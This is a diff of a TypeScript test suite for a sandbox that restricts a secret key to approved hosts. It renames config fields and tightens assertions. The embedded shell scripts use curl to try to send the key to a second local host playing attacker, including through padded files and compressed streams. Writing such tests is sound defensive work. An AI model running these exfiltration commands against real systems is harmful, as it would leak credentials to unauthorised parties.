@@ -87,8 +87,7 @@ async function runThere(t: TestContext, script: string, guarded: Partial<Guarded
   const other = await startHost(t);
   const host = await startHost(t, `https://localhost:${other.port}`);
   const plan: SandboxPlan = { network: [`127.0.0.1:${host.port}`, `localhost:${other.port}`], read: [], write: [] };
-  const hosts = [`127.0.0.1:${host.port}`];
-  const walls = { onlyTo: { KEY: { hosts, headers: ['authorization'], body: false, ...guarded } } };
+  const walls = { onlyTo: { KEY: { only_to: [`127.0.0.1:${host.port}`], header: 'Authorization', ...guarded } } };
   const env = {
     KEY,
     HOST: `https://127.0.0.1:${host.port}`,
@@ -124,14 +123,14 @@ curl -sSk ${AUTH} --data-binary @seen $OTHER/collect; cat seen`;
     assert.ok(!stdout.includes(KEY.slice(0, 20)));
     assert.equal(other.got.length, Object.keys(ENCODINGS).length + 1);
     assertHidden(JSON.stringify(other.got));
-    assert.ok(stdout.includes('placeholder-') || stdout.match(/[0-9a-f]{39}/));
+    assert.ok(stdout.includes('placeholder-'));
   });
 
   test('still streams, and reveals nothing in the stream or by compression', async (t) => {
     const script = `exec 5< <(curl -sSkN ${AUTH} $HOST/stream/verbatim); read -t 20 line <&5; echo "$line"; curl -sSk $HOST/go; cat <&5
 curl -sSk --compressed ${AUTH} $HOST/gzip/verbatim | od -c; curl -sSk -o /dev/null -w '%{http_code}' ${AUTH} $HOST/gzip/verbatim`;
     const { stdout } = await runThere(t, script);
-    assert.match(stdout, /^data: \{"delta":"first"\}\n\{"error":"no key"\}.*placeholder|^data.*[0-9a-f]{39}/s);
+    assert.match(stdout, /^data: \{"delta":"first"\}\n\{"error":"no key"\}.*placeholder-/s);
     assertHidden(stdout);
     assert.match(stdout, /502$/);
   });
@@ -152,7 +151,7 @@ curl -sSk ${AUTH} "\${HOST/https/http}/body/verbatim"; curl -sSk ${AUTH} -H "hos
   test('gets the secret in a body only with `in: body`', async (t) => {
     const script =
       'curl -sSk -d "a=1&k=$KEY&b=2" $HOST/body/verbatim; head -c 300000 /dev/zero | tr "\\0" x >big; echo -n "$KEY" >>big; curl -sSk --data-binary @big $HOST/body/verbatim';
-    const { stdout, host } = await runThere(t, script, { body: true });
+    const { stdout, host } = await runThere(t, script, { in: 'body' });
     assert.deepEqual(
       host.got.map(({ body }) => [body.length, body.endsWith(KEY) || body.includes(`k=${KEY}&`)]),
       [
